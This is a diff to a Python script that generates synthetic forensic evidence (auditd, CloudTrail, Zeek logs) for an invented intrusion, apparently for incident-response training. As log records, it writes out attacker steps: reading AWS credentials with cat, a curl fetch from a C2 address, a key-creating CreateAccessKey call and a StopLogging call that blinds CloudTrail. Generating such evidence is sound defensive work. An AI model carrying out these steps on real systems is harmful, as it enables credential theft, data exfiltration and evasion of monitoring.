@@ -1,12 +1,22 @@
-"""Write the example event logs of the Ashen Lantern intrusion (examples/evidence/*.jsonl).
+"""Write the example event logs of the Ashen Lantern intrusion (examples/evidence/).
 
 The intrusion is the one told in examples/evidence/report-ashen-lantern.md; every host, account, address
-and hash is invented. Events are JSON lines in the flat shape of Windows event exports (NXLog / OTRF style:
-System fields ``EventID``, ``Channel``, ``Hostname``, ``TimeCreated`` next to the event's data fields),
-for the Sysmon, Security, System and PowerShell channels, with benign background activity around the
-attack. Deterministic: the same seed gives the same files.
+and hash is invented. It crosses environments, each in its own native log shape:
 
-    python examples/make_evidence.py            # rewrites examples/evidence/<host>.jsonl
+- Windows hosts: JSON lines in the flat shape of Windows event exports (NXLog / OTRF style: System fields
+  ``EventID``, ``Channel``, ``Hostname``, ``TimeCreated`` next to the event's data fields), for the Sysmon,
+  Security, System and PowerShell channels (``<host>.jsonl``);
+- a Linux backup server, BKP01: a raw auditd log (``bkp01-audit.log``, SYSCALL/EXECVE/CWD/PATH records of
+  one serial, ENRICHED user names), where the operator reads the AWS keys of svc_backup;
+- the AWS account those keys open: a CloudTrail ``{"Records": [...]}`` file (``cloudtrail-111122223333.json``);
+- the network sensor: Zeek conn, dns and http logs as JSON lines (``zeek-sensor.jsonl``).
+
+The same entities recur across them (the C2 address 198.51.100.23 in Sysmon, Zeek and CloudTrail; FS01's
+address in Windows logons, Zeek and the Linux SSH login; svc_backup on Windows, Linux and AWS), so the
+case links them. Benign background activity surrounds the attack. Deterministic: the same seed gives the
+same files.
+
+    python examples/make_evidence.py            # rewrites examples/evidence/
 """
 
 from __future__ import annotations
@@ -285,9 +295,153 @@ def attack() -> None:
             "\"cmd.exe\"", user="svc_backup", integrity="High")
 
 
+LINUX_HOST, LINUX_IP = "bkp01", "10.20.1.30"
+C2 = "198.51.100.23"
+ACCOUNT = "111122223333"
+MEGA = ["31.216.145.5", "31.216.144.5", "89.44.169.135"]
+audit_lines: list[tuple[float, str]] = []
+trail: list[dict] = []
+zeek: list[dict] = []
+serial = [4100]
+
+
+def audit_event(t: datetime, records: list[tuple[str, str, str]]) -> None:
+    """One audit event: (type, raw fields, enriched fields) records sharing one ``audit(ts:serial)`` stamp."""
+    serial[0] += rng.randrange(3, 40)
+    stamp = f"{t.timestamp():.3f}:{serial[0]}"
+    for kind, body, enriched in records:
+        line = f"node={LINUX_HOST} type={kind} msg=audit({stamp}): {body}"
+        audit_lines.append((t.timestamp(), line + ("\x1d" + enriched if enriched else "")))
+
+
+def linux_exec(t: datetime, user: str, uid: int, exe: str, args: list[str], cwd: str, ses: int) -> None:
+    argv = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
+    audit_event(t, [
+        ("SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 a0=55d5c2f0 a1=55d5c310 a2=55d5c330 a3=0 "
+                    f"items=2 ppid={pid()} pid={pid()} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} "
+                    f"fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={ses} comm=\"{exe.rsplit('/', 1)[-1]}\" "
+                    f"exe=\"{exe}\" subj=unconfined key=\"exec\"",
+         f'ARCH=x86_64 SYSCALL=execve AUID="{user}" UID="{user}" GID="{user}" EUID="{user}"'),
+        ("EXECVE", f"argc={len(args)} {argv}", ""),
+        ("CWD", f'cwd="{cwd}"', ""),
+        ("PATH", f'item=0 name="{exe}" inode={rng.randrange(100000, 999999)} dev=fd:00 mode=0100755 ouid=0 '
+                 "ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0", 'OUID="root" OGID="root"'),
+        ("PROCTITLE", "proctitle=" + "00".join(a.encode().hex() for a in args), ""),
+    ])
+
+
+def ssh_login(t: datetime, user: str, uid: int, addr: str, ses: int) -> None:
+    audit_event(t, [("USER_LOGIN", f"pid={pid()} uid=0 auid={uid} ses={ses} subj=unconfined "
+                     f"msg='op=login id={uid} exe=\"/usr/sbin/sshd\" hostname={addr} addr={addr} terminal=/dev/pts/0 "
+                     "res=success'", f'UID="root" AUID="{user}" ID="{user}"')])
+
+
+def cloud_call(t: datetime, name: str, source: str, user: str, ip: str, agent: str, key: str, **extra) -> None:
+    trail.append({
+        "eventVersion": "1.08", "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source,
+        "eventName": name, "awsRegion": "eu-west-1", "sourceIPAddress": ip, "userAgent": agent,
+        "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + key[4:20], "userName": user,
+                         "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}", "accountId": ACCOUNT, "accessKeyId": key},
+        "requestParameters": extra.pop("request", None), "responseElements": extra.pop("response", None),
+        "eventID": guid()[1:-1].lower(), "readOnly": extra.pop("read_only", False), "eventType": "AwsApiCall",
+        "managementEvent": True, "recipientAccountId": ACCOUNT, "eventCategory": "Management", **extra})
+
+
+def zeek_conn(t: datetime, orig: str, resp: str, port: int, service: str, duration: float, sent: int, recv: int,
+              uid: str | None = None) -> str:
+    uid = uid or "C" + "%016x" % rng.getrandbits(64)
+    zeek.append({"_path": "conn", "ts": t.isoformat(timespec="microseconds").replace("+00:00", "Z"), "uid": uid,
+                 "id.orig_h": orig, "id.orig_p": rng.randrange(49152, 65535), "id.resp_h": resp, "id.resp_p": port,
+                 "proto": "udp" if port == 53 else "tcp", "service": service, "duration": round(duration, 6),
+                 "orig_bytes": sent, "resp_bytes": recv, "conn_state": "SF", "local_orig": True,
+                 "local_resp": resp.startswith("10."), "missed_bytes": 0, "history": "ShADadfF"})
+    return uid
+
+
+def zeek_dns(t: datetime, orig: str, query: str, answer: str) -> None:
+    uid = zeek_conn(t, orig, HOSTS["DC01"], 53, "dns", 0.002, 48, 64)
+    zeek.append({"_path": "dns", "ts": t.isoformat(timespec="microseconds").replace("+00:00", "Z"), "uid": uid,
+                 "id.orig_h": orig, "id.orig_p": rng.randrange(49152, 65535), "id.resp_h": HOSTS["DC01"],
+                 "id.resp_p": 53, "proto": "udp", "trans_id": rng.randrange(1, 65535), "query": query,
+                 "qclass": 1, "qclass_name": "C_INTERNET", "qtype": 1, "qtype_name": "A", "rcode": 0,
+                 "rcode_name": "NOERROR", "AA": False, "TC": False, "RD": True, "RA": True, "Z": 0,
+                 "answers": [answer], "TTLs": [300.0], "rejected": False})
+
+
+def zeek_http(t: datetime, orig: str, resp: str, host: str, uri: str, agent: str, size: int, mime: str) -> None:
+    uid = zeek_conn(t, orig, resp, 80, "http", 0.41, 310, size + 420)
+    zeek.append({"_path": "http", "ts": t.isoformat(timespec="microseconds").replace("+00:00", "Z"), "uid": uid,
+                 "id.orig_h": orig, "id.orig_p": rng.randrange(49152, 65535), "id.resp_h": resp, "id.resp_p": 80,
+                 "trans_depth": 1, "method": "GET", "host": host, "uri": uri, "version": "1.1", "user_agent": agent,
+                 "request_body_len": 0, "response_body_len": size, "status_code": 200, "status_msg": "OK",
+                 "resp_mime_types": [mime]})
+
+
+def other_environments() -> None:
+    """BKP01 (Linux), the AWS account and the Zeek sensor: background, then the attack's traces there."""
+    key_admin, key_backup = "AKIA2EXAMPLEADMIN001", "AKIA2EXAMPLEBACKUP01"
+    # background: backup jobs on BKP01, the admin's AWS console work, ordinary web and DNS traffic
+    t = START + timedelta(minutes=20)
+    while t < END:
+        linux_exec(t, "svc_backup", 1001, "/usr/bin/rsync", ["rsync", "-a", "/srv/exports/", "/backup/daily/"],
+                   "/home/svc_backup", rng.randrange(10, 90))
+        cloud_call(t + timedelta(minutes=3), "PutObject", "s3.amazonaws.com", "svc_backup", LINUX_IP,
+                   "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0", key_backup, read_only=False,
+                   request={"bucketName": "nwl-backups", "key": f"daily/{t:%Y%m%d%H}.tar.zst"})
+        t += timedelta(hours=4)
+    for hour in (9, 11, 15):
+        cloud_call(at(16, hour, 5), "DescribeInstances", "ec2.amazonaws.com", "it.admin", "20.190.151.99",
+                   "console.amazonaws.com", key_admin, read_only=True)
+    sites = [("www.office.com", "52.96.36.162"), ("login.microsoftonline.com", "20.190.151.7"),
+             ("update.googleapis.com", "142.250.179.99")]
+    t = START
+    while t < END:
+        host = rng.choice(list(HOSTS))
+        name, addr = rng.choice(sites)
+        zeek_dns(t, HOSTS[host], name, addr)
+        zeek_conn(t + timedelta(milliseconds=30), HOSTS[host], addr, 443, "ssl", rng.uniform(0.5, 30),
+                  rng.randrange(900, 9000), rng.randrange(2000, 90000))
+        t += timedelta(seconds=rng.uniform(120, 600))
+    # the attack as the sensor saw it: the stage-2 download, the C2 beacons, the MEGA upload
+    ws, fs = HOSTS["WS-FIN-07"], HOSTS["FS01"]
+    zeek_dns(at(16, 8, 42, 17, 380), ws, "cdn.nwl-filesync.com", C2)
+    zeek_http(at(16, 8, 43, 48), ws, C2, C2, "/update/msedgeupd.exe",
+              "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4894", 1483264,
+              "application/x-dosexec")
+    t = at(16, 8, 43, 20)
+    while t < at(16, 9, 40):
+        zeek_conn(t, ws, C2, 443, "ssl", rng.uniform(0.2, 0.9), rng.randrange(400, 900), rng.randrange(300, 2000))
+        t += timedelta(seconds=rng.uniform(50, 70))
+    zeek_dns(at(17, 3, 40, 3), fs, "g.api.mega.co.nz", MEGA[0])
+    for i in range(24):
+        zeek_conn(at(17, 3, 40, 5) + timedelta(seconds=60 * i), fs, rng.choice(MEGA), 443, "ssl",
+                  rng.uniform(40, 59), rng.randrange(40_000_000, 60_000_000), rng.randrange(9000, 20000))
+    # FS01 -> BKP01 over SSH with svc_backup; the operator reads the AWS keys kept there
+    zeek_conn(at(17, 2, 50, 1), fs, LINUX_IP, 22, "ssh", 1260.4, 48211, 90233)
+    ssh_login(at(17, 2, 50, 2), "svc_backup", 1001, fs, 7)
+    linux_exec(at(17, 2, 51, 10), "svc_backup", 1001, "/usr/bin/cat",
+               ["cat", "/home/svc_backup/.aws/credentials"], "/home/svc_backup", 7)
+    linux_exec(at(17, 2, 52, 30), "svc_backup", 1001, "/usr/bin/curl",
+               ["curl", "-s", "-o", "/tmp/.k", f"http://{C2}/k"], "/tmp", 7)
+    zeek_http(at(17, 2, 52, 30, 400), LINUX_IP, C2, C2, "/k", "curl/7.81.0", 2048, "text/plain")
+    # and uses them from the C2 address: who am I, a key of its own, then blind the trail
+    cloud_call(at(17, 3, 2, 11), "GetCallerIdentity", "sts.amazonaws.com", "svc_backup", C2,
+               "aws-cli/2.13.0 Python/3.11.4 Windows/10", key_backup, read_only=True)
+    cloud_call(at(17, 3, 3, 40), "ListBuckets", "s3.amazonaws.com", "svc_backup", C2,
+               "aws-cli/2.13.0 Python/3.11.4 Windows/10", key_backup, read_only=True)
+    cloud_call(at(17, 3, 6, 2), "CreateAccessKey", "iam.amazonaws.com", "svc_backup", C2,
+               "aws-cli/2.13.0 Python/3.11.4 Windows/10", key_backup, request={"userName": "svc_backup"},
+               response={"accessKey": {"accessKeyId": "AKIA2EXAMPLEATTACK01", "status": "Active",
+                                       "userName": "svc_backup"}})
+    cloud_call(at(17, 4, 20, 30), "StopLogging", "cloudtrail.amazonaws.com", "svc_backup", C2,
+               "aws-cli/2.13.0 Python/3.11.4 Windows/10", "AKIA2EXAMPLEATTACK01",
+               request={"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/org-trail"})
+
+
 def main() -> None:
     background()
     attack()
+    other_environments()
     OUT.mkdir(parents=True, exist_ok=True)
     for host, recs in events.items():
         recs.sort(key=lambda r: (r["TimeCreated"], r["EventID"]))
@@ -296,6 +450,17 @@ def main() -> None:
             for rec in recs:
                 fh.write(json.dumps(rec, ensure_ascii=False) + "\n")
         print(f"{path.name}: {len(recs)} events")
+    audit_lines.sort(key=lambda x: x[0])
+    (OUT / f"{LINUX_HOST}-audit.log").write_text("".join(line + "\n" for _, line in audit_lines), encoding="utf-8")
+    print(f"{LINUX_HOST}-audit.log: {len(audit_lines)} audit records")
+    trail.sort(key=lambda r: r["eventTime"])
+    (OUT / f"cloudtrail-{ACCOUNT}.json").write_text(json.dumps({"Records": trail}, indent=1) + "\n", encoding="utf-8")
+    print(f"cloudtrail-{ACCOUNT}.json: {len(trail)} events")
+    zeek.sort(key=lambda r: (r["ts"], r["_path"]))
+    with (OUT / "zeek-sensor.jsonl").open("w", encoding="utf-8", newline="\n") as fh:
+        for rec in zeek:
+            fh.write(json.dumps(rec) + "\n")
+    print(f"zeek-sensor.jsonl: {len(zeek)} records")
 
 
 if __name__ == "__main__":
